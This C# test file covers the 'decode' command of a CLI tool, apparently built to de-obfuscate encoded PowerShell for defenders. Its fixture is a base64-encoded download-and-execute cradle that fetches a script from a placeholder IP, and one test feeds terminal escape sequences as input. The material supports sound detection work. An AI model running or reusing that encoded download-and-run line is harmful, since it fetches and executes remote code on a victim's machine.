using System.Text;
using System.Text.Json;
using Stemma.Cli.Tests.Support;
using Stemma.Tests.Shared;

namespace Stemma.Cli.Tests;

/// <summary>stemma decode, as its users meet it.</summary>
public sealed class DecodeCommandTests : IDisposable
{
    private const string Plain = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";

    private readonly string _folder = TestData.TemporaryFolder();

    private static string Encoded => "powershell.exe -nop -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(Plain));

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void What_is_hidden_is_shown_with_what_it_does_and_where_it_leads()
    {
        var (code, output, errors) = StemmaProgram.Run("decode", Write("line.txt", Encoded));
        Assert.Equal((0, ""), (code, errors));
        Assert.Contains("layer 1: powershell, -EncodedCommand of layer 0", output, StringComparison.Ordinal);
        Assert.Contains("T1059.001   Runs text that it downloads", output, StringComparison.Ordinal);
        Assert.Contains("http://198.51.100.7/a.ps1 (layer 1)", output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_batch_is_answered_line_by_line_in_order()
    {
        string batch = Write("batch.jsonl", JsonSerializer.Serialize(new { id = "a", kind = "auto", text = Encoded }) + "\n"
            + JsonSerializer.Serialize(new { id = 2, kind = "powershell", text = "Get-ChildItem" }) + "\n");
        var (code, output, errors) = StemmaProgram.Run("decode", "--batch", batch);
        Assert.Equal((0, ""), (code, errors));
        JsonElement[] answers = [.. output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement)];
        Assert.Equal("a", answers[0].GetProperty("id").GetString());
        Assert.Equal(Plain, answers[0].GetProperty("layers")[1].GetProperty("text").GetString());
        Assert.Equal(2, answers[1].GetProperty("id").GetInt32());
        Assert.Equal(1, answers[1].GetProperty("layers").GetArrayLength());
        Assert.Equal("Get-ChildItem", answers[1].GetProperty("final").GetString());
    }

    [Fact]
    public void A_line_of_a_batch_that_is_no_question_is_answered_with_its_place_and_the_rest_goes_on()
    {
        var (code, output, _) = StemmaProgram.Run("decode", "--batch", Write("batch.jsonl", "{\n{\"id\":1}\n{\"id\":2,\"kind\":\"cobol\",\"text\":\"x\"}\n{\"id\":3,\"text\":\"Get-Date\"}\n"));
        string[] answers = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(4, answers.Length);
        Assert.Contains("batch.jsonl, line 1: ", answers[0], StringComparison.Ordinal);
        Assert.Contains("line 2: there is no \\\"text\\\"", answers[1], StringComparison.Ordinal);
        Assert.Contains("line 3: 'cobol' is no kind", answers[2], StringComparison.Ordinal);
        Assert.Contains("\"final\":\"Get-Date\"", answers[3], StringComparison.Ordinal);
        Assert.Equal(3, code);
    }

    [Fact]
    public void Text_that_would_control_the_terminal_is_shown_as_text()
    {
        var (_, output, _) = StemmaProgram.Run("decode", Write("evil.ps1", "Write-Host '\u001b[2J\u0007'"));
        Assert.DoesNotContain('\u001b', output);
        Assert.DoesNotContain('\u0007', output);
    }

    [Fact]
    public void A_file_of_a_format_that_is_not_read_is_named_as_such()
    {
        string path = Path.Combine(_folder, "x.bin");
        File.WriteAllBytes(path, [0x7F, 0x45, 0x4C, 0x46, 0, 1, 2, 3, 0, 0, 0, 0, 0xFF, 0xFE, 0, 0]);
        Assert.Contains("note: files of this format are not read", StemmaProgram.Run("decode", path).Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("decode")]
    [InlineData("decode", "a.ps1", "--batch", "b.jsonl")]
    [InlineData("decode", "a.ps1", "--kind", "cobol")]
    public void What_makes_no_sense_together_is_refused(params string[] arguments) => Assert.Equal(2, StemmaProgram.Run(arguments).Code);

    private string Write(string name, string text)
    {
        string path = Path.Combine(_folder, name);
        File.WriteAllText(path, text);
        return path;
    }
}
